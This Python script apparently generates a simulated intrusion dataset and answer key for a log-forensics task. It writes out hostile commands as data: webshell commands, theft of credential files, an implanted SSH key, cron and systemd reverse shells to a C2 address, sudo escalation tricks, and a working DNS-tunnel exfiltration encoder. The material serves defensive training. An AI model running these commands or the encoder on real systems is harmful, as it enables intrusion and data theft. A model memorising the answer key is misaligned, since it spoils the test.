"""Regenerates this task's data: python3 generate.py OUTDIR writes the evidence files (for
environment/) and answers.json (for scorer/). Deterministic: the seed lives only here.

A simulated intrusion with noise. The web server's access log is in local time (its offset is
in each line); syslog files are in each host's clock without a year, and one host's clock can
be off (its chrony log says by how much once it is corrected). Webshell commands travel base64-
encoded in a query parameter; exfiltration at LEVEL 3 goes through a DNS tunnel whose encoder
is only in a root shell history (zlib, XOR with a key derived from a passphrase, base32).
"""

import base64
import hashlib
import json
import random
import sys
import zlib
from datetime import datetime, timedelta, timezone, UTC
from pathlib import Path

ROTATE = 4000  # lines per log file (files must stay under 1 MB)
MON = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
WORDS = "amber cobalt falcon harbor juniper lumen maple nimbus orchid pepper quartz raven saffron tundra willow zephyr".split()
PAGES = ["/", "/about", "/contact", "/cart", "/checkout", "/account", "/blog", "/faq", "/shipping"]
STATIC = [
    "/static/app.js",
    "/static/site.css",
    "/static/logo.png",
    "/favicon.ico",
    "/static/fonts/inter.woff2",
]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
]
BOT_UA = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
SCAN_UAS = [
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "gobuster/3.6",
    "Mozilla/5.0 (compatible; CensysInspect/1.1)",
]
SCAN_PATHS = [
    "/.env",
    "/wp-login.php",
    "/wp-admin/",
    "/phpmyadmin/",
    "/.git/config",
    "/server-status",
    "/admin/",
    "/admin/login.php",
    "/backup.zip",
    "/config.php.bak",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci",
    "/actuator/env",
    "/api/v1/debug",
    "/upload.php",
    "/.aws/credentials",
    "/xmlrpc.php",
]
VULNS = [
    ("/admin/media/upload.php", "/media/uploads/"),
    ("/api/v1/profile/avatar", "/static/avatars/"),
    ("/support/ticket/attach", "/support/files/"),
]


class Gen:
    def __init__(self, seed: int, level: int) -> None:
        self.r = random.Random(seed)
        self.level = level
        self.files: dict[str, list[tuple[float, str]]] = {}
        self.ans: dict[str, object] = {}
        self.pid = {
            h: self.r.randint(2000, 9000)
            for h in ("web01", "app02", "app03", "db01", "bastion", "ns01", "ci01")
        }
        self.skew = {h: 0.0 for h in self.pid}
        if level >= 2:
            self.skew["db01"] = -round(self.r.uniform(300, 900), 3)
        self.deploy_fp = self.fp()

    # ---- primitives -------------------------------------------------------------------
    def ip(self) -> str:
        r = self.r
        return f"{r.choice([31, 45, 62, 77, 89, 91, 103, 141, 176, 185, 193, 203, 212])}.{r.randint(1, 254)}.{r.randint(1, 254)}.{r.randint(1, 254)}"

    def emit(self, name: str, t: float, line: str) -> None:
        self.files.setdefault(name, []).append((t, line))

    def npid(self, host: str) -> int:
        self.pid[host] += self.r.randint(1, 40)
        return self.pid[host]

    def sys(self, host: str, t: float, prog: str, msg: str, pid: int | None = None) -> None:
        lt = datetime.fromtimestamp(t + self.skew[host], UTC)
        stamp = f"{MON[lt.month - 1]} {lt.day:2d} {lt:%H:%M:%S}"
        p = f"[{pid if pid is not None else self.npid(host)}]"
        self.emit(f"{host}_auth.log", t, f"{stamp} {host} {prog}{p}: {msg}")

    def access(
        self, t: float, ip: str, method: str, path: str, status: int, size: int, ua: str, ref: str = "-"
    ) -> None:
        lt = datetime.fromtimestamp(t, self.tz)
        off = self.tz.utcoffset(None)
        assert off is not None
        mins = int(off.total_seconds() // 60)
        z = f"{'+' if mins >= 0 else '-'}{abs(mins) // 60:02d}{abs(mins) % 60:02d}"
        stamp = f"{lt.day:02d}/{MON[lt.month - 1]}/{lt.year}:{lt:%H:%M:%S} {z}"
        self.emit(
            "web01_access.log",
            t,
            f'{ip} - - [{stamp}] "{method} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"',
        )

    def acct(self, host: str, t: float, uid: int, argv: str, ppid: int) -> int:
        pid = self.npid(host)
        self.emit(
            f"{host}_exec.log",
            t,
            f"{t + self.skew[host]:.3f} pid={pid} ppid={ppid} uid={uid} argv={json.dumps(argv)}",
        )
        return pid

    def hist(self, host: str, user: str, t: float, cmd: str) -> None:
        self.emit(f"{host}_{user}.bash_history", t, f"#{int(t + self.skew[host])}\n{cmd}")

    def fp(self) -> str:
        return "SHA256:" + base64.b64encode(self.r.randbytes(32)).decode().rstrip("=")

    # ---- the story --------------------------------------------------------------------
    def run(self) -> None:
        r = self.r
        self.start = datetime(2026, r.randint(2, 10), r.randint(1, 25), tzinfo=UTC).timestamp()
        self.days = 3 if self.level == 1 else 4
        self.end = self.start + self.days * 86400
        self.tz = timezone(timedelta(minutes=r.choice([120, 60, -300, -240, 330, 540])))
        self.internal = {
            "web01": "10.20.1.10",
            "app02": "10.20.2.21",
            "app03": "10.20.2.22",
            "db01": "10.20.3.5",
            "bastion": "10.20.0.4",
            "ns01": "10.20.0.53",
            "ci01": "10.20.0.30",
        }
        self.background()
        self.attack()

    def background(self) -> None:
        r = self.r
        clients = [self.ip() for _ in range(400)]
        n_req = {1: 14000, 2: 16000, 3: 18000}[self.level]
        for _ in range(n_req):
            t = self.start + r.random() * self.days * 86400
            ip, ua = r.choice(clients), r.choice(UAS)
            roll = r.random()
            if roll < 0.5:
                path = r.choice(PAGES + [f"/products/{r.randint(100, 999)}", f"/search?q={r.choice(WORDS)}"])
                self.access(t, ip, "GET", path, r.choice([200] * 9 + [304]), r.randint(2000, 40000), ua)
            elif roll < 0.85:
                self.access(
                    t,
                    ip,
                    "GET",
                    r.choice(STATIC),
                    r.choice([200, 304, 304]),
                    r.randint(300, 90000),
                    ua,
                    "https://shop.example/",
                )
            elif roll < 0.93:
                self.access(t, ip, "POST", "/login", r.choice([302, 302, 200]), r.randint(100, 900), ua)
            else:
                self.access(
                    t,
                    "66.249.66." + str(r.randint(1, 200)),
                    "GET",
                    r.choice(PAGES),
                    200,
                    r.randint(2000, 30000),
                    BOT_UA,
                )
        # legitimate uploads through the same endpoint the attacker abuses, from staff
        self.vuln, self.updir = r.choice(VULNS)
        staff = [self.ip() for _ in range(3)]
        for _ in range(40):
            t = self.start + r.random() * self.days * 86400
            name = f"{r.choice(WORDS)}-{r.randint(1, 99)}.{r.choice(['jpg', 'png', 'pdf'])}"
            s = r.choice(staff)
            self.access(
                t, s, "POST", self.vuln, 200, r.randint(60, 120), UAS[0], "https://shop.example/admin/"
            )
            self.access(
                t + r.randint(2, 30), s, "GET", self.updir + name, 200, r.randint(20000, 400000), UAS[0]
            )
        # scanners, some of which probe the vulnerable endpoint too and fail
        for _ in range(9):
            ip, ua = self.ip(), r.choice(SCAN_UAS)
            t = self.start + r.random() * self.days * 86400
            for p in r.sample(SCAN_PATHS + [self.vuln], 12):
                t += r.random() * 3
                st = 404 if p != self.vuln else r.choice([400, 403])
                self.access(
                    t,
                    ip,
                    r.choice(["GET", "GET", "POST"]) if p == self.vuln else "GET",
                    p,
                    st,
                    r.randint(150, 600),
                    ua,
                )
        # ssh noise on every host: admins, brute force, cron
        hosts = ["web01"] if self.level == 1 else ["web01", "app02", "app03", "db01", "bastion"]
        admins = ["alice", "bkumar", "ops"]
        for h in hosts:
            for _ in range(60):
                t = self.start + r.random() * self.days * 86400
                u = r.choice(admins)
                src = self.internal["bastion"] if h != "bastion" else self.ip()
                pid = self.npid(h)
                self.sys(
                    h,
                    t,
                    "sshd",
                    f"Accepted publickey for {u} from {src} port {r.randint(30000, 65000)} ssh2: ED25519 {self.fp()}",
                    pid,
                )
                self.sys(
                    h,
                    t,
                    "sshd",
                    f"pam_unix(sshd:session): session opened for user {u}(uid={1001 + admins.index(u)}) by (uid=0)",
                    pid,
                )
                self.sys(
                    h,
                    t + r.randint(60, 3000),
                    "sshd",
                    f"pam_unix(sshd:session): session closed for user {u}",
                    pid,
                )
                for c in r.sample(
                    [
                        "uptime",
                        "df -h",
                        "journalctl -u nginx --since today",
                        "systemctl status app",
                        "tail -n 50 /var/log/syslog",
                        "free -m",
                        "ls -la /srv",
                    ],
                    2,
                ):
                    t += r.randint(5, 120)
                    self.hist(h, u, t, c)
                    self.acct(h, t, 1001 + admins.index(u), c, pid)
            for _ in range(25):
                ip = self.ip()
                t = self.start + r.random() * self.days * 86400
                for _ in range(r.randint(3, 12)):
                    t += r.random() * 4
                    u = r.choice(["root", "admin", "test", "oracle", "ubuntu", "deploy", "git"])
                    pid = self.npid(h)
                    self.sys(
                        h,
                        t,
                        "sshd",
                        f"Failed password for {'invalid user ' if u in ('admin', 'test', 'oracle', 'git') else ''}{u} from {ip} port {r.randint(30000, 65000)} ssh2",
                        pid,
                    )
            day = self.start
            while day < self.end:
                for hh in range(0, 24, 1):
                    t = day + hh * 3600 + 17 * 60
                    self.sys(
                        h, t, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
                    )
                    self.acct(h, t, 0, "/bin/sh -c cd / && run-parts --report /etc/cron.hourly", 1)
                day += 86400
        if self.level >= 2:
            self.deploys()
        if self.level >= 3:
            self.dns_noise()

    def deploys(self) -> None:
        """CI logs in as deploy on the app servers from web01's address: the attacker hides in this."""
        r = self.r
        t = self.start + 3600
        while t < self.end:
            t += r.randint(2, 9) * 3600 + r.randint(0, 3000)
            for h in ("app02", "app03"):
                pid = self.npid(h)
                self.sys(
                    h,
                    t,
                    "sshd",
                    f"Accepted publickey for deploy from {self.internal['web01']} port {r.randint(30000, 65000)} ssh2: ED25519 {self.deploy_fp}",
                    pid,
                )
                for c in ["cd /srv/app", "git pull --ff-only", "./bin/migrate", "sudo systemctl restart app"]:
                    self.acct(h, t + r.randint(1, 20), 1100, c, pid)
                self.sys(
                    h,
                    t + 40,
                    "sudo",
                    "  deploy : TTY=unknown ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/systemctl restart app",
                )
                self.sys(h, t + 60, "sshd", "pam_unix(sshd:session): session closed for user deploy", pid)

    def shell(self, t: float, ip: str, cmd: str) -> None:
        enc = base64.urlsafe_b64encode(cmd.encode()).decode()
        self.access(
            t,
            ip,
            "GET",
            f"{self.shellpath}?{self.param}={enc}",
            200,
            self.r.randint(40, 3000),
            "python-requests/2.31.0",
        )
        self.acct("web01", t + 0.05, 33, f"sh -c {cmd}", self.phppid)

    def attack(self) -> None:
        r = self.r
        A1, A2 = self.ip(), self.ip()
        t = self.start + self.days * 86400 * r.uniform(0.35, 0.5)
        # recon from A1
        for p in r.sample(SCAN_PATHS, 8) + [self.vuln]:
            t += r.uniform(1, 6)
            self.access(t, A1, "GET", p, 404 if p != self.vuln else 405, r.randint(150, 600), SCAN_UAS[2])
        t += r.uniform(600, 3000)
        name = "".join(r.choice("abcdef0123456789") for _ in range(8))
        self.shellpath = f"{self.updir}{name}.php"
        self.param = r.choice(["q", "x", "d", "id"])
        self.access(t, A1, "POST", self.vuln, 200, r.randint(60, 120), UAS[2], "-")
        self.phppid = self.npid("web01")
        t += r.uniform(300, 1800)
        self.ans["entry_ip"] = A1
        self.ans["entry_endpoint"] = self.vuln
        self.ans["webshell"] = self.shellpath
        self.ans["first_command_utc"] = iso(t)
        c2 = f"{self.ip()}:{r.choice([443, 8443, 4444, 53, 8080])}"
        victim = r.choice(["svc-backup", "jenkins", "monitor"])
        cmds = [
            "id",
            "uname -a",
            "cat /var/www/shop/.env",
            "ls -la /home /home/*/.ssh",
            f"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{base64.b64encode(r.randbytes(24)).decode()} {r.choice(WORDS)}@kali' >> /home/{victim}/.ssh/authorized_keys",
            f"(crontab -l 2>/dev/null; echo '*/15 * * * * /bin/bash -c \"bash -i >& /dev/tcp/{c2.replace(':', '/')} 0>&1\"') | crontab -",
        ]
        for c in cmds:
            self.shell(t, A2, c)
            t += r.uniform(20, 240)
        self.ans["c2"] = c2
        self.ans["backdoor_account"] = victim
        # a decoy: a second actor drops a harmless test file and fetches it once (a bug bounty probe)
        bb = self.ip()
        tb = self.start + r.uniform(0.6, 0.9) * self.days * 86400
        self.access(tb, bb, "POST", self.vuln, 200, 77, "Mozilla/5.0 (bugbounty; researcher@example.org)")
        self.access(
            tb + 9,
            bb,
            "GET",
            f"{self.updir}poc-{r.randint(1000, 9999)}.txt",
            200,
            12,
            "Mozilla/5.0 (bugbounty; researcher@example.org)",
        )
        if self.level == 1:
            arch = f"{self.updir}.{r.choice(WORDS)}.tgz"
            self.shell(
                t,
                A2,
                'mysqldump -u shop -p"$(grep DB_PASS /var/www/shop/.env | cut -d= -f2)" shop customers orders | gzip > /tmp/.d.sql.gz',
            )
            t += r.uniform(60, 200)
            self.shell(t, A2, f"tar czf /var/www/shop/public{arch} /tmp/.d.sql.gz && rm /tmp/.d.sql.gz")
            t += r.uniform(30, 300)
            size = r.randint(2_000_000, 9_000_000)
            self.access(t, A2, "GET", arch, 200, size, "python-requests/2.31.0")
            self.ans["exfil_bytes"] = size
            t += r.uniform(3600, 7200)
            A3 = self.ip()
            pid = self.npid("web01")
            self.sys(
                "web01",
                t,
                "sshd",
                f"Accepted publickey for {victim} from {A3} port {r.randint(30000, 65000)} ssh2: ED25519 {self.fp()}",
                pid,
            )
            self.sys(
                "web01", t + 400, "sshd", f"pam_unix(sshd:session): session closed for user {victim}", pid
            )
            self.ans["ssh_login_utc"] = iso(t)
            return
        self.pivot(t, A2)

    def pivot(self, t: float, A2: str) -> None:
        r = self.r
        w, a, d = self.internal["web01"], self.internal["app02"], self.internal["db01"]
        # the reverse shell (cron) gives www-data a shell on web01
        t += r.uniform(900, 1800)
        sh = self.acct("web01", t, 33, "bash -i", 1)
        for c in [
            "ls -la /home/deploy/.ssh",
            "cp /home/deploy/.ssh/id_ed25519 /tmp/.k",
            "chmod 600 /tmp/.k",
            f"ssh -i /tmp/.k -o StrictHostKeyChecking=no deploy@{self.internal['app03']}",
        ]:
            t += r.uniform(5, 60)
            self.acct("web01", t, 33, c, sh)
        pid = self.npid("app03")
        self.sys(
            "app03",
            t + 1,
            "sshd",
            f"Connection closed by authenticating user deploy {w} port {r.randint(30000, 65000)} [preauth]",
            pid,
        )
        t += r.uniform(30, 200)
        self.acct("web01", t, 33, f"ssh -i /tmp/.k -o StrictHostKeyChecking=no deploy@{a}", sh)
        t += r.uniform(1, 3)
        spid = self.npid("app02")
        self.sys(
            "app02",
            t,
            "sshd",
            f"Accepted publickey for deploy from {w} port {r.randint(30000, 65000)} ssh2: ED25519 {self.deploy_fp}",
            spid,
        )
        self.ans["app02_login_utc"] = iso(t)
        gtfo = r.choice(
            [
                ("/usr/bin/find", "/usr/bin/find /srv/app -maxdepth 0 -exec /bin/bash -p ;"),
                (
                    "/usr/bin/tar",
                    "/usr/bin/tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/bash",
                ),
                ("/usr/bin/less", "/usr/bin/less /etc/hosts"),
            ]
        )
        for c in ["id", "sudo -l"]:
            t += r.uniform(5, 40)
            self.acct("app02", t, 1100, c, spid)
        t += r.uniform(20, 90)
        self.sys(
            "app02", t, "sudo", f"  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND={gtfo[1]}"
        )
        root = self.acct("app02", t, 0, gtfo[1], spid)
        self.ans["app02_sudo_binary"] = gtfo[0]
        unit = (
            r.choice(["dbus-broker-helper", "systemd-netcheck", "apt-daily-cache", "snapd-refresh"])
            + ".service"
        )
        c2 = str(self.ans["c2"]).replace(":", "/")
        rc = [
            ("cat /root/.pgpass", 0),
            (
                f"printf '[Unit]\\nDescription=helper\\n[Service]\\nExecStart=/bin/bash -c \\'bash -i >& /dev/tcp/{c2} 0>&1\\'\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/{unit}",
                0,
            ),
            (f"systemctl enable --now {unit}", 0),
        ]
        for c, _ in rc:
            t += r.uniform(20, 120)
            self.acct("app02", t, 0, c, root)
        self.ans["app02_unit"] = unit
        # on to the database host with the password from .pgpass (db01's clock is behind)
        t += r.uniform(300, 900)
        for _ in range(2):
            self.acct("app02", t, 0, f"ssh backup@{d}", root)
            self.sys(
                "db01",
                t + 2,
                "sshd",
                f"Failed password for backup from {a} port {r.randint(30000, 65000)} ssh2",
            )
            t += r.uniform(15, 40)
        self.acct("app02", t, 0, f"ssh backup@{d}", root)
        t += 2
        dp = self.npid("db01")
        self.sys(
            "db01",
            t,
            "sshd",
            f"Accepted password for backup from {a} port {r.randint(30000, 65000)} ssh2",
            dp,
        )
        self.ans["db01_login_utc"] = iso(t)
        dirn = r.choice(["/var/tmp/.cache", "/dev/shm/.x", "/var/lib/postgresql/.tmp"])
        binn = f"{dirn}/{r.choice(['kworkerd', 'pg_logrotate', 'sshd-helper'])}"
        self.ans["db01_persistence"] = binn
        cmds = [
            "id",
            "hostname",
            f"mkdir -p {dirn}",
            f"curl -s -o {binn} http://{self.internal['web01']}{self.updir}.x",
            f"chmod +x {binn}",
            f"(crontab -l; echo '@reboot {binn}') | crontab -",
        ]
        if self.level == 2:
            cmds.append("pg_dump -t customers -t payments shop | gzip > /var/tmp/.c.gz")
        for c in cmds:
            t += r.uniform(10, 90)
            self.hist("db01", "backup", t, c)
            self.acct("db01", t, 112, c, dp)
            if c.startswith("curl"):
                self.access(
                    t + 0.2, d, "GET", f"{self.updir}.x", 200, r.randint(800_000, 900_000), "curl/7.88.1"
                )
        if self.level == 2:
            t += r.uniform(60, 300)
            self.acct("app02", t, 0, f"scp backup@{d}:/var/tmp/.c.gz /tmp/.c.gz", root)
            t += r.uniform(20, 60)
            arch = f"{self.updir}.{r.choice(WORDS)}.bin"
            self.acct("app02", t, 0, f"scp /tmp/.c.gz deploy@{w}:/var/www/shop/public{arch}", root)
            pid = self.npid("web01")
            self.sys(
                "web01",
                t + 1,
                "sshd",
                f"Accepted publickey for deploy from {a} port {r.randint(30000, 65000)} ssh2: ED25519 {self.deploy_fp}",
                pid,
            )
            t += r.uniform(300, 1200)
            size = r.randint(2_000_000, 9_000_000)
            self.access(t, A2, "GET", arch, 200, size, "python-requests/2.31.0")
            self.ans["exfil_bytes"] = size
            self.finish_clock(t)
            return
        self.tunnel(t, dp)

    def finish_clock(self, t: float) -> None:
        t = self.end - self.r.uniform(600, 3000)
        self.sys(
            "db01",
            t,
            "chronyd",
            f"System clock wrong by {-self.skew['db01']:.6f} seconds, adjustment started",
        )
        self.sys(
            "db01", t + 1, "chronyd", "System clock was stepped by {:.6f} seconds".format(-self.skew["db01"])
        )

    def tunnel(self, t: float, dp: int) -> None:
        r = self.r
        dom = f"{r.choice(['cdn', 'telemetry', 'sync', 'static'])}-{r.choice(WORDS)}.{r.choice(['net', 'io', 'cloud'])}"
        mid = r.randbytes(16).hex()
        self.inventory = {h: r.randbytes(16).hex() for h in self.internal}
        self.inventory["db01"] = mid
        script = (
            "cat > /var/tmp/.s.py <<'EOF'\n"
            "import base64, hashlib, random, socket, sys, zlib\n"
            "key = hashlib.sha256(open('/etc/machine-id', 'rb').read().strip() + sys.argv[2].encode()).digest()\n"
            "raw = zlib.compress(open(sys.argv[1], 'rb').read(), 9)\n"
            "enc = bytes(b ^ key[i % 32] for i, b in enumerate(raw))\n"
            "txt = base64.b32encode(enc).decode().rstrip('=').lower()\n"
            "parts = [txt[i:i + 50] for i in range(0, len(txt), 50)]\n"
            "for n in random.sample(range(len(parts)), len(parts)):\n"
            f"    name = '%s.%x.%s.{dom}' % (parts[n], n, sys.argv[2])\n"
            "    try:\n        socket.getaddrinfo(name, 53)\n    except OSError:\n        pass\n"
            "EOF"
        )
        ids = sorted(r.sample(range(100000, 999999), 2400))
        tier = {i: r.choice(["gold", "silver", "bronze", "bronze"]) for i in ids}
        country = {i: r.choice(["DE", "FR", "NL", "US", "GB", "ES"]) for i in ids}
        want = r.choice(["DE", "FR", "NL"])
        chosen = [i for i in ids if tier[i] == "gold" and country[i] == want]
        rows = ["id,email,country,tier,card_last4"] + [
            f"{i},{r.choice(WORDS)}.{r.choice(WORDS)}{r.randint(1, 99)}@mail.example,{country[i]},{tier[i]},{r.randint(0, 9999):04d}"
            for i in chosen
        ]
        csv = ("\n".join(rows) + "\n").encode()
        cmds = [
            script,
            f"psql shop -c \"\\copy (select id,email,country,tier,card_last4 from customers where tier='gold' and country='{want}') to '/var/tmp/.c.csv' csv header\"",
            "wc -l /var/tmp/.c.csv",
        ]
        sess_test, sess = r.randbytes(3).hex(), r.randbytes(3).hex()
        for c in cmds:
            t += r.uniform(30, 200)
            self.hist("db01", "backup", t, c)
            self.acct("db01", t, 112, c if not c.startswith("cat >") else "cat", dp)
        t += r.uniform(30, 120)
        # a test run on a decoy file, then the real one (and the attacker never reran the decoy)
        decoy = ("\n".join(f"{r.randint(100000, 999999)},test" for _ in range(30)) + "\n").encode()
        for sid, data, arg in [(sess_test, decoy, "/var/tmp/.t.csv"), (sess, csv, "/var/tmp/.c.csv")]:
            c = f"python3 /var/tmp/.s.py {arg} {sid}"
            self.hist("db01", "backup", t, c)
            self.acct("db01", t, 112, c, dp)
            key = hashlib.sha256(mid.encode() + sid.encode()).digest()
            raw = zlib.compress(data, 9)
            enc = bytes(b ^ key[i % 32] for i, b in enumerate(raw))
            txt = base64.b32encode(enc).decode().rstrip("=").lower()
            parts = [txt[i : i + 50] for i in range(0, len(txt), 50)]
            order = r.sample(range(len(parts)), len(parts))
            for n in order:
                t += r.uniform(0.05, 1.5)
                for _ in range(2 if r.random() < 0.15 else 1):
                    self.dns(t, self.internal["db01"], f"{parts[n]}.{n:x}.{sid}.{dom}", "A", "NXDOMAIN")
                    t += r.uniform(0.5, 3)
            t += r.uniform(200, 900)
        if data is csv:
            self.hist("db01", "backup", t, "rm -f /var/tmp/.s.py /var/tmp/.c.csv /var/tmp/.t.csv")
        # the return visit, a day later: the app02 unit's root shell, db01 again, a second export
        # under a new domain with a reworked encoder
        a, d = self.internal["app02"], self.internal["db01"]
        t = min(t + r.uniform(14 * 3600, 20 * 3600), self.end - 4 * 3600)
        rs = self.acct("app02", t, 0, "bash -i", 1)
        t += r.uniform(30, 300)
        self.acct("app02", t, 0, f"ssh backup@{d}", rs)
        t += 2
        dp2 = self.npid("db01")
        self.sys(
            "db01",
            t,
            "sshd",
            f"Accepted password for backup from {a} port {r.randint(30000, 65000)} ssh2",
            dp2,
        )
        dom2 = f"{r.choice(['img', 'edge', 'metrics'])}-{r.choice(WORDS)}.{r.choice(['com', 'org', 'dev'])}"
        script2 = (
            "cat > /var/tmp/.s.py <<'EOF'\n"
            "import base64, hashlib, socket, sys, time, zlib\n"
            "key = hashlib.sha256(sys.argv[2].encode() + open('/etc/machine-id', 'rb').read().strip()).digest()\n"
            "raw = zlib.compress(open(sys.argv[1], 'rb').read(), 9)\n"
            "enc = bytes(b ^ key[(7 * i) % 32] for i, b in enumerate(raw))\n"
            "txt = base64.b32encode(enc).decode().rstrip('=').lower()\n"
            "parts = [txt[i:i + 40] for i in range(0, len(txt), 40)]\n"
            "for n, part in enumerate(parts):\n"
            f"    name = '%d-%s.%s.{dom2}' % (n, part, sys.argv[2])\n"
            "    try:\n        socket.getaddrinfo(name, 53)\n    except OSError:\n        pass\n"
            "    time.sleep(0.5)\n"
            "EOF"
        )
        chosen2 = [i for i in ids if tier[i] == "silver" and country[i] == want]
        rows2 = ["id,email,country,tier,card_last4"] + [
            f"{i},{r.choice(WORDS)}.{r.choice(WORDS)}{r.randint(1, 99)}@mail.example,{country[i]},{tier[i]},{r.randint(0, 9999):04d}"
            for i in chosen2
        ]
        sid2 = r.randbytes(3).hex()
        for c in [
            script2,
            f"psql shop -c \"\\copy (select id,email,country,tier,card_last4 from customers where tier='silver' and country='{want}') to '/var/tmp/.d.csv' csv header\"",
            f"python3 /var/tmp/.s.py /var/tmp/.d.csv {sid2}",
        ]:
            t += r.uniform(30, 200)
            self.hist("db01", "backup", t, c)
            self.acct("db01", t, 112, c if not c.startswith("cat >") else "cat", dp2)
        key = hashlib.sha256(sid2.encode() + mid.encode()).digest()
        raw = zlib.compress(("\n".join(rows2) + "\n").encode(), 9)
        enc = bytes(b ^ key[(7 * i) % 32] for i, b in enumerate(raw))
        txt = base64.b32encode(enc).decode().rstrip("=").lower()
        for n, part in enumerate(txt[i : i + 40] for i in range(0, len(txt), 40)):
            t += r.uniform(0.5, 0.7)
            self.dns(t, d, f"{n}-{part}.{sid2}.{dom2}", "A", "NXDOMAIN")
        t += r.uniform(60, 300)
        self.hist("db01", "backup", t, "rm -f /var/tmp/.s.py /var/tmp/.d.csv")
        self.ans["tunnel_domains"] = f"{dom},{dom2}"
        self.ans["records"] = sorted(chosen + chosen2)
        self.finish_clock(t)

    def dns(self, t: float, src: str, name: str, qtype: str, rcode: str) -> None:
        lt = datetime.fromtimestamp(t, UTC)
        self.emit(
            "ns01_queries.log",
            t,
            f"{lt:%d-%b-%Y %H:%M:%S}.{int(t * 1000) % 1000:03d} client {src}#{self.r.randint(1024, 65535)} ({name}): query: {name} IN {qtype} + ({self.internal['ns01']}) {rcode}",
        )

    def dns_noise(self) -> None:
        r = self.r
        names = [
            "deb.debian.org",
            "security.debian.org",
            "pool.ntp.org",
            "api.stripe.com",
            "db01.corp.internal",
            "app02.corp.internal",
            "app03.corp.internal",
            "smtp.mail.example",
            "sentry.io",
            "github.com",
        ]
        hosts = [v for k, v in self.internal.items() if k != "ns01"]
        for _ in range(9000):
            t = self.start + r.random() * self.days * 86400
            n = r.choice(names)
            self.dns(t, r.choice(hosts), n, r.choice(["A", "AAAA"]), "NOERROR")
        # hashed lookups of a (legitimate) reputation service look like a tunnel too
        for _ in range(700):
            t = self.start + r.random() * self.days * 86400
            h = base64.b32encode(r.randbytes(20)).decode().rstrip("=").lower()
            self.dns(t, r.choice(hosts), f"{h}.{r.randint(0, 15):x}.rep.avscan-cloud.net", "TXT", "NOERROR")


def iso(t: float) -> str:
    return datetime.fromtimestamp(int(t), UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def write(g: Gen, out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    for name, lines in g.files.items():
        lines.sort(key=lambda x: x[0])
        text = "\n".join(line for _, line in lines) + "\n"
        if len(lines) > ROTATE:
            # rotated by size, the newest part keeps the plain name
            chunks = [lines[i : i + ROTATE] for i in range(0, len(lines), ROTATE)]
            for k, chunk in enumerate(reversed(chunks)):
                (out / (name + (f".{k}" if k else ""))).write_text("\n".join(x for _, x in chunk) + "\n")
            continue
        (out / name).write_text(text)
    inv = getattr(g, "inventory", None)
    if inv:
        (out / "inventory.txt").write_text(
            "host internal_ip machine_id\n"
            + "".join(f"{h} {g.internal[h]} {m}\n" for h, m in sorted(inv.items()))
        )
    (out / "answers.json").write_text(json.dumps(g.ans, indent=1, sort_keys=True) + "\n")


SEED = 20139
LEVEL = 2


def main() -> None:
    gen = Gen(SEED, LEVEL)
    gen.run()
    write(gen, Path(sys.argv[1]))


if __name__ == "__main__":
    main()
